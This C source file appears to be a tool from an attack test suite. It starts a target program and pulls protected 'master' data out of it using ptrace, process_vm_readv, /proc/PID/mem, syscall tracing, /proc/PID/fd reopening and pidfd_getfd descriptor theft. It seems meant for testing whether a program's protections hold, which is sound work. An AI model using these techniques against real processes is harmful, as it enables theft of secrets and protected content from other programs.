/*
 * peek WAY TO WHERE COMMAND...
 *
 * Starts COMMAND, waits until it sleeps with the bytes of a master in its memory, and takes them from outside:
 *
 *   ptrace, vm, mem   what its largest piece of memory holds (WHERE is -)
 *   traced            what it, or a process that it starts, has just read; it is traced from its beginning
 *   fd, pidfd         what its descriptor of the file WHERE refers to; does not wait until it sleeps
 */
#include "attack.h"
#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>

enum { MOST = 1 << 20 };
static char buffer[MOST];

static pid_t start(char **command)
{
	pid_t child = must(fork(), "fork");

	if (!child) {
		alarm(15);
		execvp(command[0], command);
		_exit(127);
	}
	return child;
}

/* Whether the process has slept at four looks in a row, and no longer runs what this program is. */
static void until_asleep(pid_t child)
{
	char path[64], line[256], state;
	int still = 0;

	snprintf(path, sizeof(path), "/proc/%d/stat", child);
	for (int look = 0; look < 60 && still < 4; look++) {
		usleep(100000);
		line[slurp(path, line, sizeof(line) - 1)] = 0;
		state = *(strrchr(line, ')') + 2);
		still = state == 'S' ? still + 1 : 0;
	}
}

/* The largest writable piece of memory that belongs to no file. */
static unsigned long largest(pid_t child, size_t *size)
{
	char path[64], line[512], file[256];
	unsigned long from, to, inode, best = 0;

	snprintf(path, sizeof(path), "/proc/%d/maps", child);
	FILE *maps = fopen(path, "r");
	must(maps ? 0 : -1, path);
	for (*size = 0; fgets(line, sizeof(line), maps);) {
		*file = 0;
		if (sscanf(line, "%lx-%lx rw%*s %*s %*s %lu %255s", &from, &to, &inode, file) < 3 || inode)
			continue;
		if (to - from > *size) {
			*size = to - from;
			best = from;
		}
	}
	fclose(maps);
	*size = *size < MOST ? *size : MOST;
	return best;
}

static void with_ptrace(char **arguments)
{
	pid_t child = start(arguments + 2);
	size_t size;

	until_asleep(child);
	must(ptrace(PTRACE_ATTACH, child, 0, 0), "PTRACE_ATTACH");
	must(waitpid(child, NULL, 0), "waitpid");
	unsigned long from = largest(child, &size);
	size = size < 1 << 16 ? size : 1 << 16;
	for (size_t done = 0; done < size; done += sizeof(long)) {
		long word = ptrace(PTRACE_PEEKDATA, child, from + done, 0);

		memcpy(buffer + done, &word, sizeof(word));
	}
	kill(child, SIGKILL);
	spill(arguments[0], buffer, size);
}

static void with_vm(char **arguments)
{
	pid_t child = start(arguments + 2);
	size_t size;

	until_asleep(child);
	struct iovec theirs = { (void *)largest(child, &size), 0 }, ours = { buffer, size };
	theirs.iov_len = size;
	ssize_t got = process_vm_readv(child, &ours, 1, &theirs, 1, 0);
	kill(child, SIGKILL);
	spill(arguments[0], buffer, must(got, "process_vm_readv"));
}

static void with_mem(char **arguments)
{
	pid_t child = start(arguments + 2);
	char path[64];
	size_t size;

	until_asleep(child);
	snprintf(path, sizeof(path), "/proc/%d/mem", child);
	unsigned long from = largest(child, &size);
	ssize_t got = pread(must(open(path, O_RDONLY), path), buffer, size, from);
	kill(child, SIGKILL);
	spill(arguments[0], buffer, must(got, path));
}

/* The descriptor by which the process has the file open; -1: none. */
static int descriptor(pid_t child, const char *file)
{
	char path[64], link[4096];
	int found = -1;

	snprintf(path, sizeof(path), "/proc/%d/fd", child);
	DIR *open_files = opendir(path);

	for (struct dirent *entry; open_files && (entry = readdir(open_files));) {
		ssize_t size = readlinkat(dirfd(open_files), entry->d_name, link, sizeof(link) - 1);

		if (size > 0 && (link[size] = 0, !strcmp(link, file)))
			found = atoi(entry->d_name);
	}
	if (open_files)
		closedir(open_files);
	return found;
}

/* Starts the command, again if it was too quick, until it is stopped with the file open: it closes a picture soon. */
static int stopped_with(const char *file, char **command, pid_t *child)
{
	for (int turn = 0; turn < 20; turn++) {
		int found = -1;

		*child = start(command);
		while (found < 0 && waitpid(*child, NULL, WNOHANG) == 0)
			found = descriptor(*child, file);
		if (found < 0)
			continue;
		kill(*child, SIGSTOP);
		waitpid(*child, NULL, WUNTRACED);
		found = descriptor(*child, file);
		if (found >= 0)
			return found;
		kill(*child, SIGKILL);
		waitpid(*child, NULL, 0);
	}
	fprintf(stderr, "never seen with %s open\n", file);
	_exit(1);
}

static void with_fd(char **arguments)
{
	static char whole[8 << 20];
	pid_t child;
	int theirs = stopped_with(arguments[1], arguments + 2, &child);
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/fd/%d", child, theirs);
	int fd = open(path, O_RDONLY);
	kill(child, SIGKILL);
	ssize_t got = must(pread(must(fd, path), whole, sizeof(whole), 0), path);
	spill(arguments[0], whole, got);
}

static void with_pidfd(char **arguments)
{
	static char whole[8 << 20];
	pid_t child;
	int theirs = stopped_with(arguments[1], arguments + 2, &child);
	int pidfd = must(syscall(SYS_pidfd_open, child, 0), "pidfd_open");
	int fd = syscall(SYS_pidfd_getfd, pidfd, theirs, 0);

	kill(child, SIGKILL);
	ssize_t got = must(pread(must(fd, "pidfd_getfd"), whole, sizeof(whole), 0), "pread");
	spill(arguments[0], whole, got);
}

/* Word by word: process_vm_readv(2) would ask for leave. */
static void copy_from(pid_t child, unsigned long from, size_t size)
{
	for (size_t at = 0; at + sizeof(long) <= size; at += sizeof(long)) {
		long word = ptrace(PTRACE_PEEKDATA, child, from + at, NULL);

		memcpy(buffer + at, &word, sizeof(word));
	}
}

static void with_traced(char **arguments)
{
	const long all = PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK | PTRACE_O_TRACECLONE | PTRACE_O_EXITKILL;
	pid_t child = must(fork(), "fork");
	int status;

	if (!child) {
		must(ptrace(PTRACE_TRACEME, 0, NULL, NULL), "ptrace");
		execvp(arguments[2], arguments + 2);
		_exit(127);
	}
	must(waitpid(child, &status, 0), "waitpid");
	must(ptrace(PTRACE_SETOPTIONS, child, NULL, all), "ptrace");
	while (must(ptrace(PTRACE_SYSCALL, child, NULL, NULL), "ptrace") == 0 && (child = waitpid(-1, &status, __WALL)) > 0) {
		struct user_regs_struct registers;

		while (child > 0 && !WIFSTOPPED(status))
			child = waitpid(-1, &status, __WALL);
		if (child <= 0 || ptrace(PTRACE_GETREGS, child, NULL, &registers))
			break;
		if (registers.orig_rax != SYS_read || (long)registers.rax < 20000 || (long)registers.rax > MOST)
			continue;
		copy_from(child, registers.rsi, registers.rax);
		kill(child, SIGKILL);
		spill(arguments[0], buffer, registers.rax);
		return;
	}
	fprintf(stderr, "never seen reading\n");
	_exit(1);
}

static const struct way ways[] = {
	{ "ptrace", with_ptrace }, { "vm", with_vm }, { "mem", with_mem }, { "traced", with_traced }, { "fd", with_fd }, { "pidfd", with_pidfd }, {}
};

int main(int count, char **arguments)
{
	return count > 4 ? go(ways, arguments) : 2;
}
